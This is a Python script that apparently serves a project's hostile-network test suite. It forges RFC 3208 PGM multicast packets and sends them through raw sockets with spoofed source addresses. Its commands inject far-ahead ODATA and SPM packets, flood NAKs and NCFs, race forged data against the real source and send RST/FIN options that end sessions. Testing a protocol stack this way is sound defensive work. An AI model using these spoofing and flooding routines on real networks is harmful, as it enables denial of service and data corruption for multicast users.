#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Forged PGM packets for tests/hostile/live_hostile.sh (standard library only).

  pgm_forge.py learn CAPTURE.pcap
      Reads a prizma-capture pcap (raw IPv4 + UDP + PGM), checks every packet's PGM checksum
      against this file's own (RFC 3208 section 8: the RFC 1071 sum over the whole PGM packet,
      checksum field zero, 0 sent as 0xffff; as lib/pgm/checksum.* computes it) and prints what
      an attacker learns as shell assignments: TSI (GSI, source port), data-destination port,
      the newest ODATA sqn and trail, the newest SPM sqn and the source's NLA.
  pgm_forge.py downstream OUT.pcap SRC_IP GROUP PORT GSI SPORT DPORT SQN TRAIL SPM_SQN NLA
      Writes the forged downstream packets of that TSI as a pcap for prizma-capture --replay:
      (1) ODATA whose trail is ~2^31 ahead, (2) SPM whose trail and lead are far ahead, with
      another NLA, (3) ODATA 60,000 sqns ahead.
  pgm_forge.py send-downstream PCAP SPOOF_IP
      Sends the records of such a pcap to their group through a raw socket with SPOOF_IP as
      the IP source address (the source's own address: what pinning cannot tell apart).
  pgm_forge.py naks TO_IP PORT GSI SPORT DPORT NLA GROUP FIRST COUNT HOSTS REPEAT
      Sends NAKs (each: one sqn + OPT_NAK_LIST of 62) for sqns [FIRST, FIRST + COUNT) to the
      publisher's unicast port, from HOSTS spoofed addresses 10.77.0.100.. (raw socket), each
      host asking for its own share, REPEAT times. Prints how many NAKs and sqns went out.
  pgm_forge.py conflict GROUP PORT IFACE GSI SPORT SPOOF_IP AHEAD
      Listens to the group (IFACE: the attacker's address) for an ODATA of that TSI and at
      once sends, from SPOOF_IP (raw socket), an ODATA AHEAD sqns further on: the index that
      sqn's message will carry (64-bit little-endian, as prizma-send writes it) and other
      filler bytes. Then waits for the source's own copy of that sqn and prints both.
  pgm_forge.py ncf-flood GROUP PORT GSI SPORT DPORT NLA SRC_IP SQN RATE SECONDS
      NCFs of that TSI from SRC_IP to the group, one a millisecond for SECONDS, each for the
      sqns just ahead of where a stream at RATE sqns/s from SQN now is. Prints how many.
  pgm_forge.py ncf-flood-behind GROUP PORT GSI SPORT DPORT NLA SRC_IP IFACE SECONDS
      The same for the 52 sqns behind the stream's lead and 4 past it, the lead followed by
      listening to the group on IFACE: the sqns a receiver that lost a packet is repairing
      (SRC_IP the source's own address: they pass its pinning).
  pgm_forge.py silent-source GROUP PORT DPORT IFACE BASE SECONDS
      A new TSI (random GSI and port) sends ODATA BASE and BASE + 1000 from IFACE, again
      after SECONDS / 2, and never an SPM. Counts the SPMRs for it heard in SECONDS: unicast
      (to IFACE:PORT, where a receiver sends them) and on the group.
  pgm_forge.py gap-sources GROUP PORT DPORT COUNT BASE GAP ROUNDS INTERVAL
      COUNT new TSIs from spoofed addresses 10.77.0.120.. (raw socket), each sending ODATA BASE
      and BASE + GAP (a gap held open: no SPM, so no NAK), ROUNDS times INTERVAL s apart.
  pgm_forge.py spm-options GROUP PORT IFACE GSI SPORT SPOOF_IP PAUSE OPTIONS
      Listens for an SPM and the newest ODATA of that TSI, then sends from SPOOF_IP one SPM
      per OPTIONS word (RST, FIN: comma-separated, in that order), PAUSE s apart, each with
      the next SPM sqn, the live trail and the newest sqn heard as its lead.
  pgm_forge.py parity-naks GROUP PORT IFACE K GROUPS SECONDS
      Asks an on-demand FEC source (OpenPGM with PGM_USE_FEC) for parity, as an OpenPGM
      receiver would (RFC 3208 section 11.8): listens to the group on IFACE, takes the first
      ODATA's TSI (its NLA is taken to be IFACE: a source on this host) and, for every
      of the first GROUPS transmission groups of K packets, once it has heard the group's
      last sqn, sends to IFACE:PORT one
      parity NAK (options byte 0x80, sqn = the group's first sqn | 0): OpenPGM answers with a
      parity NCF and one parity RDATA whose sqn is the group's first (parity index 0). (A
      second parity NAK for a group still queued fails an assertion in 5.3.128, txw.c:478.)
      OpenPGM 5.3.128 sends its parity RDATA with ports 0 and 256 and a checksum that
      does not verify (its parity buffer's header is never completed, txw.c/source.c); each one
      heard is sent again to the group as a correct FEC source would: the source's ports, a
      valid checksum, the same parity sqn and bytes. Prints the parity NAKs sent, the parity
      NCFs and parity RDATA heard, how many of those failed their checksum, and how many
      were sent again, over SECONDS.
Every packet this file forges is checked before it leaves: the RFC 1071 sum over the whole
PGM packet, checksum included, must be 0xffff (an independent check of pgm_checksum()).
"""
import os
import random
import select
import socket
import struct
import sys
import time

ODATA, SPM, NAK, NCF, SPMR = 0x04, 0x00, 0x08, 0x0A, 0x0C
OPT_LENGTH, OPT_NAK_LIST, OPT_FIN, OPT_RST, OPT_END = 0x00, 0x02, 0x0E, 0x0F, 0x80
MASK = 0xFFFFFFFF


def csum16(data: bytes) -> int:
    """RFC 1071 ones'-complement sum of big-endian 16-bit words (odd tail padded with 0)."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def pgm_checksum(pkt: bytes) -> int:
    """The value of the checksum field (bytes 6-7) for `pkt`: its own field taken as zero."""
    c = ~csum16(pkt[:6] + b"\0\0" + pkt[8:]) & 0xFFFF
    return c if c != 0 else 0xFFFF


def checksum_ok(pkt: bytes) -> bool:
    """RFC 1071 verification: the sum over the packet with its checksum is all ones."""
    return csum16(pkt) == 0xFFFF


def with_checksum(pkt: bytes) -> bytes:
    out = pkt[:6] + struct.pack("!H", pgm_checksum(pkt)) + pkt[8:]
    if not checksum_ok(out):
        sys.exit("forged packet of type %#x fails its own checksum" % pkt[4])
    return out


def header(sport, dport, ptype, options, gsi: bytes, tsdu_len) -> bytes:
    return struct.pack("!HHBBH", sport, dport, ptype, options, 0) + gsi + struct.pack("!H", tsdu_len)


def nla(ip: str) -> bytes:
    return struct.pack("!HH", 1, 0) + socket.inet_aton(ip)


def odata(sport, dport, gsi, sqn, trail, payload: bytes) -> bytes:
    p = header(sport, dport, ODATA, 0, gsi, len(payload))
    return with_checksum(p + struct.pack("!II", sqn & MASK, trail & MASK) + payload)


def spm(sport, dport, gsi, spm_sqn, trail, lead, path_nla: str, option=None) -> bytes:
    """An SPM; `option` (OPT_FIN, OPT_RST) adds OPT_LENGTH and that option."""
    opts = b""
    if option is not None:
        opts = struct.pack("!BBHBBBB", OPT_LENGTH, 4, 8, option | OPT_END, 4, 0, 0)
    p = header(sport, dport, SPM, 0 if option is None else 0x01, gsi, 0)
    body = struct.pack("!III", spm_sqn & MASK, trail & MASK, lead & MASK) + nla(path_nla)
    return with_checksum(p + body + opts)


def nak(sport, dport, gsi, sqns, source_nla: str, group: str, ptype=NAK, parity=False) -> bytes:
    """A NAK (or NCF: ptype) for sqns[0] with OPT_NAK_LIST for the rest (a NAK is upstream:
    ports swapped by the caller)."""
    opts = b""
    flags = 0
    if len(sqns) > 1:
        lst = struct.pack("!BBBB", OPT_NAK_LIST | OPT_END, 4 + 4 * (len(sqns) - 1), 0, 0)
        lst += b"".join(struct.pack("!I", s & MASK) for s in sqns[1:])
        opts = struct.pack("!BBH", OPT_LENGTH, 4, 4 + len(lst)) + lst
        flags = 0x01 | 0x02  # options present, network-significant (as OpenPGM)
    if parity:
        flags |= 0x80  # a parity NAK: sqns name transmission groups and packet counts
    p = header(sport, dport, ptype, flags, gsi, 0)
    return with_checksum(p + struct.pack("!I", sqns[0] & MASK) + nla(source_nla) + nla(group) + opts)


def ipv4_udp(src: str, dst: str, sport: int, dport: int, payload: bytes, ttl=1) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no UDP checksum
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, ttl, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", ~csum16(ip) & 0xFFFF) + ip[12:]
    return ip + udp


def read_pcap(path):
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack("<I", data[:4])[0]
    if magic not in (0xA1B2C3D4, 0xA1B23C4D):
        sys.exit("%s: not a little-endian pcap (magic %#x)" % (path, magic))
    link = struct.unpack("<I", data[20:24])[0]
    if link != 101:
        sys.exit("%s: link type %d, expected raw IP (101)" % (path, link))
    off = 24
    while off + 16 <= len(data):
        incl = struct.unpack("<I", data[off + 8:off + 12])[0]
        rec = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if len(rec) < 28 or rec[0] >> 4 != 4 or rec[9] != 17:
            continue
        ihl = (rec[0] & 0x0F) * 4
        yield rec, rec[ihl + 8:]


def write_pcap(path, records):
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101))
        for i, r in enumerate(records):
            f.write(struct.pack("<IIII", 1, i, len(r), len(r)) + r)


def serial_after(a, b):
    """True when sqn a follows b (RFC 1982 serial order, 32-bit)."""
    return 0 < ((a - b) & MASK) < 0x80000000


def learn(path):
    seen = bad = 0
    tsi = dport = None
    sqn = trail = spm_sqn = source_nla = None
    for _, pgm in read_pcap(path):
        if len(pgm) < 16:
            continue
        seen += 1
        if pgm_checksum(pgm) != struct.unpack("!H", pgm[6:8])[0]:
            bad += 1
            continue
        sport, dp, ptype = struct.unpack("!HHB", pgm[:5])
        tsi = (pgm[8:14].hex(), sport)
        dport = dp
        if ptype == ODATA:
            s, t = struct.unpack("!II", pgm[16:24])
            if sqn is None or serial_after(s, sqn):
                sqn, trail = s, t
        elif ptype == SPM:
            s = struct.unpack("!I", pgm[16:20])[0]
            if spm_sqn is None or serial_after(s, spm_sqn):
                spm_sqn = s
            source_nla = socket.inet_ntoa(pgm[32:36])
    if seen == 0 or bad != 0:
        sys.exit("learn: %d packets, %d with a checksum other than ours" % (seen, bad))
    if sqn is None or spm_sqn is None:
        sys.exit("learn: no ODATA or no SPM in %s" % path)
    print("gsi=%s sport=%d dport=%d sqn=%d trail=%d spm_sqn=%d nla=%s checked=%d"
          % (tsi[0], tsi[1], dport, sqn, trail, spm_sqn, source_nla, seen))


def downstream(out, src_ip, group, port, gsi_hex, sport, dport, sqn, trail, spm_sqn, source_nla):
    gsi = bytes.fromhex(gsi_hex)
    sport, dport, port = int(sport), int(dport), int(port)
    sqn, trail, spm_sqn = int(sqn), int(trail), int(spm_sqn)
    other_nla = src_ip if src_ip != source_nla else "10.77.0.99"
    pkts = [
        odata(sport, dport, gsi, sqn + 1, sqn + 1 + 0x7FFFFFF0, b"\xee" * 200),  # (1)
        spm(sport, dport, gsi, spm_sqn + 1, sqn + 0x100000, sqn + 0x100000 + 100, other_nla),  # (2)
        odata(sport, dport, gsi, sqn + 60000, trail, b"\xee" * 200),  # (3)
    ]
    write_pcap(out, [ipv4_udp(src_ip, group, 40000, port, p) for p in pkts])
    print("forged %d downstream packets into %s" % (len(pkts), out))


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def send_downstream(path, spoof_ip):
    s = raw_socket()
    n = 0
    for rec, _ in read_pcap(path):
        rec = bytearray(rec)
        rec[12:16] = socket.inet_aton(spoof_ip)
        rec[10:12] = b"\0\0"
        rec[10:12] = struct.pack("!H", ~csum16(bytes(rec[:20])) & 0xFFFF)
        s.sendto(bytes(rec), (socket.inet_ntoa(bytes(rec[16:20])), 0))
        n += 1
    print("sent %d downstream packets from %s" % (n, spoof_ip))


def naks(to_ip, port, gsi_hex, sport, dport, source_nla, group, first, count, hosts, repeat):
    gsi = bytes.fromhex(gsi_hex)
    port, sport, dport = int(port), int(sport), int(dport)
    first, count, hosts, repeat = int(first), int(count), int(hosts), int(repeat)
    s = raw_socket()
    sent = sqns = 0
    share = (count + hosts - 1) // hosts
    for _ in range(repeat):
        for h in range(hosts):
            src = "10.77.0.%d" % (100 + h)
            lo = first + h * share
            hi = min(first + count, lo + share)
            for start in range(lo, hi, 63):
                batch = list(range(start, min(hi, start + 63)))
                # Upstream: PGM source port = the data-destination port, destination = the TSI's.
                p = nak(dport, sport, gsi, batch, source_nla, group)
                s.sendto(ipv4_udp(src, to_ip, 41000 + h, port, p, ttl=64), (to_ip, 0))
                sent += 1
                sqns += len(batch)
    print("naks=%d sqns=%d hosts=%d" % (sent, sqns, hosts))


def group_socket(group, port, iface):
    """A UDP socket hearing the group's datagrams on IFACE (PGM over UDP)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)  # OpenPGM binds with it alone
    s.bind((group, int(port)))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton(group) + socket.inet_aton(iface))
    return s


def data_fields(pgm):
    """(sqn, trail, payload) of an ODATA/RDATA, options skipped."""
    sqn, trail = struct.unpack("!II", pgm[16:24])
    off = 24
    if pgm[5] & 0x01:
        off += struct.unpack("!H", pgm[off + 2:off + 4])[0]
    return sqn, trail, pgm[off:]


def heard(sock, seconds):
    """Yields (sender, PGM packet) heard within `seconds`; a bad checksum ends the program."""
    end = time.monotonic() + seconds
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return
        r, _, _ = select.select([sock], [], [], left)
        if not r:
            return
        pgm, sender = sock.recvfrom(65535)
        if len(pgm) < 16:
            continue
        if not checksum_ok(pgm):
            sys.exit("heard a packet of type %#x with a bad checksum" % pgm[4])
        yield sender, pgm


def of_tsi(pgm, gsi, sport):
    return pgm[8:14] == gsi and struct.unpack("!H", pgm[:2])[0] == sport


def send_spoofed(s, src_ip, group, udp_sport, port, pkt):
    s.sendto(ipv4_udp(src_ip, group, udp_sport, port, pkt), (group, 0))


def conflict(group, port, iface, gsi_hex, sport, spoof_ip, ahead):
    gsi, sport, port, ahead = bytes.fromhex(gsi_hex), int(sport), int(port), int(ahead)
    sock, raw = group_socket(group, port, iface), raw_socket()
    fake = target = None
    for sender, pgm in heard(sock, 5):
        if pgm[4] != ODATA or not of_tsi(pgm, gsi, sport):
            continue
        s, trail, payload = data_fields(pgm)
        if fake is None and len(payload) >= 8:
            idx = struct.unpack("<Q", payload[:8])[0]
            target = (s + ahead) & MASK
            body = struct.pack("<Q", idx + ahead) + b"\xee" * (len(payload) - 8)
            fake = odata(sport, struct.unpack("!H", pgm[2:4])[0], gsi, target, trail, body)
            send_spoofed(raw, spoof_ip, group, sender[1], port, fake)
            t0 = time.monotonic()
            print("conflict: heard sqn=%d index=%d; sent sqn=%d index=%d from %s"
                  % (s, idx, target, idx + ahead, spoof_ip))
        elif fake is not None and s == target and pgm != fake:
            print("conflict: the source's own sqn=%d (index %d) came %.1f ms after the forgery"
                  % (s, struct.unpack("<Q", payload[:8])[0], (time.monotonic() - t0) * 1e3))
            return
    sys.exit("conflict: " + ("no ODATA heard" if fake is None else "the source's copy never came"))


def ncf_flood(group, port, gsi_hex, sport, dport, source_nla, src_ip, sqn, rate, seconds):
    gsi, port, sport, dport = bytes.fromhex(gsi_hex), int(port), int(sport), int(dport)
    sqn, rate, seconds = int(sqn), float(rate), float(seconds)
    raw = raw_socket()
    start = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic()
        if now - start >= seconds:
            break
        at = sqn + int((now - start) * rate) + 4  # just ahead of the live stream
        p = nak(sport, dport, gsi, list(range(at, at + 4)), source_nla, group, ptype=NCF)
        send_spoofed(raw, src_ip, group, 41500, port, p)
        sent += 1
        time.sleep(max(0.0, start + sent * 0.001 - time.monotonic()))
    print("ncfs=%d from %s in %.1f s" % (sent, src_ip, time.monotonic() - start))


def silent_source(group, port, dport, iface, base, seconds):
    port, dport, base, seconds = int(port), int(dport), int(base), float(seconds)
    gsi, sport = os.urandom(6), random.randint(1024, 65535)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind((iface, port))  # unicast SPMRs go to the sender's address at the channel's port
    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(iface))
    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    m = group_socket(group, port, iface)
    pkts = [odata(sport, dport, gsi, base + k, base, b"\xee" * 200) for k in (0, 1000)]
    counts = {"unicast": 0, "group": 0}
    for _ in range(2):
        for p in pkts:
            u.sendto(p, (group, port))
        end = time.monotonic() + seconds / 2
        while True:
            left = end - time.monotonic()
            if left <= 0:
                break
            for sock in select.select([u, m], [], [], left)[0]:
                pgm = sock.recv(65535)
                # An SPMR (upstream): PGM source port = data port, destination = the TSI's.
                if (len(pgm) >= 16 and pgm[4] == SPMR and pgm[8:14] == gsi
                        and struct.unpack("!H", pgm[2:4])[0] == sport):
                    if not checksum_ok(pgm):
                        sys.exit("silent-source: an SPMR with a bad checksum")
                    counts["unicast" if sock is u else "group"] += 1
    print("silent source gsi=%s sport=%d from %s: spmr_unicast=%d spmr_group=%d"
          % (gsi.hex(), sport, iface, counts["unicast"], counts["group"]))

def gap_sources(group, port, dport, count, base, gap, rounds, interval):
    port, dport, count, base, gap = int(port), int(dport), int(count), int(base), int(gap)
    rounds, interval = int(rounds), float(interval)
    raw = raw_socket()
    tsis = [(os.urandom(6), random.randint(1024, 65535)) for _ in range(count)]
    sent = 0
    for r in range(rounds):
        for i, (gsi, sport) in enumerate(tsis):
            for k in (0, gap):
                p = odata(sport, dport, gsi, base + k, base, b"\xee" * 1000)
                send_spoofed(raw, "10.77.0.%d" % (120 + i), group, 43000 + i, port, p)
                sent += 1
        if r + 1 < rounds:
            time.sleep(interval)
    print("gap sources=%d rounds=%d odata=%d" % (count, rounds, sent))


def spm_options(group, port, iface, gsi_hex, sport, spoof_ip, pause, options):
    gsi, sport, port, pause = bytes.fromhex(gsi_hex), int(sport), int(port), float(pause)
    sock, raw = group_socket(group, port, iface), raw_socket()
    spm_sqn = spm_nla = spm_port = newest = None
    forged = set()

    def listen(seconds):
        """Until an ODATA after the latest SPM (the source's own, not ours) has been heard."""
        nonlocal spm_sqn, spm_nla, spm_port, newest
        newest = None
        for sender, pgm in heard(sock, seconds):
            if not of_tsi(pgm, gsi, sport) or pgm in forged:
                continue
            if pgm[4] == SPM:
                s = struct.unpack("!I", pgm[16:20])[0]
                if spm_sqn is None or serial_after(s, spm_sqn):
                    spm_sqn, spm_nla, spm_port = s, socket.inet_ntoa(pgm[32:36]), sender[1]
                newest = None
            elif pgm[4] == ODATA and spm_sqn is not None:
                s, trail, _ = data_fields(pgm)
                newest = (s, trail, struct.unpack("!H", pgm[2:4])[0])
                return
        sys.exit("spm-options: no SPM and ODATA of the TSI heard")

    listen(3)
    for k, name in enumerate(options.split(",")):
        option = {"RST": OPT_RST, "FIN": OPT_FIN}[name]
        if k:
            time.sleep(pause)
            listen(2)
        spm_sqn = (spm_sqn + 1) & MASK  # newer than the source's last (ours count too)
        p = spm(sport, newest[2], gsi, spm_sqn, newest[1], newest[0], spm_nla, option)
        forged.add(p)
        send_spoofed(raw, spoof_ip, group, spm_port, port, p)
        print("spm-options: SPM sqn=%d with OPT_%s (trail %d, lead %d) from %s"
              % (spm_sqn, name, newest[1], newest[0], spoof_ip))

def ncf_flood_behind(group, port, gsi_hex, sport, dport, source_nla, src_ip, iface, seconds):
    """One NCF a millisecond for the 52 sqns behind the live stream's lead and 4 past it, the
    lead followed by listening to the group on IFACE (the TSI's newest ODATA)."""
    gsi, port, sport, dport = bytes.fromhex(gsi_hex), int(port), int(sport), int(dport)
    seconds = float(seconds)
    sock, raw = group_socket(group, port, iface), raw_socket()
    sock.setblocking(False)
    lead = None
    start = time.monotonic()
    sent = 0
    while time.monotonic() - start < seconds:
        while True:
            try:
                pgm, _ = sock.recvfrom(65535)
            except BlockingIOError:
                break
            if len(pgm) >= 24 and pgm[4] == ODATA and of_tsi(pgm, gsi, sport):
                s = struct.unpack("!I", pgm[16:20])[0]
                if lead is None or serial_after(s, lead):
                    lead = s
        if lead is not None:
            sqns = list(range(lead - 52, lead + 4))
            p = nak(sport, dport, gsi, sqns, source_nla, group, ptype=NCF)
            send_spoofed(raw, src_ip, group, 41500, port, p)
            sent += 1
        time.sleep(max(0.0, start + (sent + 1) * 0.001 - time.monotonic()))
    print("ncfs=%d from %s in %.1f s (lead followed on the group)"
          % (sent, src_ip, time.monotonic() - start))


def parity_naks(group, port, iface, k, groups, seconds):
    port, k, groups, seconds = int(port), int(k), int(groups), float(seconds)
    sock = group_socket(group, port, iface)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.bind((iface, 0))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(iface))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    tsi = None
    asked, naks, ncfs, parity, bad, resent = set(), 0, 0, 0, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        r, _, _ = select.select([sock], [], [], max(0.0, end - time.monotonic()))
        if not r:
            continue
        pgm = sock.recv(65535)
        if len(pgm) < 24:
            continue
        ptype, options = pgm[4] & 0x0F, pgm[5]
        if ptype == NCF and options & 0x80:
            ncfs += 1
        elif ptype in (ODATA, 0x05) and options & 0x80:
            parity += 1
            if not checksum_ok(pgm) and tsi is not None:
                bad += 1
                fixed = struct.pack("!HH", tsi[1], tsi[2]) + pgm[4:]
                out.sendto(with_checksum(fixed), (group, port))
                resent += 1
        elif ptype == ODATA:
            if tsi is None:
                tsi = (pgm[8:14], struct.unpack("!H", pgm[:2])[0], struct.unpack("!H", pgm[2:4])[0])
            if not of_tsi(pgm, tsi[0], tsi[1]) or not checksum_ok(pgm):
                continue
            sqn = struct.unpack("!I", pgm[16:20])[0]
            tg = sqn & ~(k - 1) & MASK
            if sqn == tg + k - 1 and tg not in asked and len(asked) < groups:
                asked.add(tg)
                gsi, sport, dport = tsi
                out.sendto(nak(dport, sport, gsi, [tg], iface, group, parity=True),
                           (iface, port))
                naks += 1
    print("parity naks %d ncf %d rdata %d bad-checksum %d resent %d"
          % (naks, ncfs, parity, bad, resent))
    print("asked groups " + ",".join(str(g) for g in sorted(asked)))


def main(argv):
    cmds = {"learn": (learn, 1), "downstream": (downstream, 11),
            "send-downstream": (send_downstream, 2), "naks": (naks, 11),
            "conflict": (conflict, 7), "ncf-flood": (ncf_flood, 10),
            "ncf-flood-behind": (ncf_flood_behind, 9),
            "silent-source": (silent_source, 6), "gap-sources": (gap_sources, 8),
            "spm-options": (spm_options, 8), "parity-naks": (parity_naks, 6)}
    if len(argv) < 2 or argv[1] not in cmds or len(argv) - 2 != cmds[argv[1]][1]:
        sys.exit(__doc__)
    cmds[argv[1]][0](*argv[2:])


if __name__ == "__main__":
    main(sys.argv)
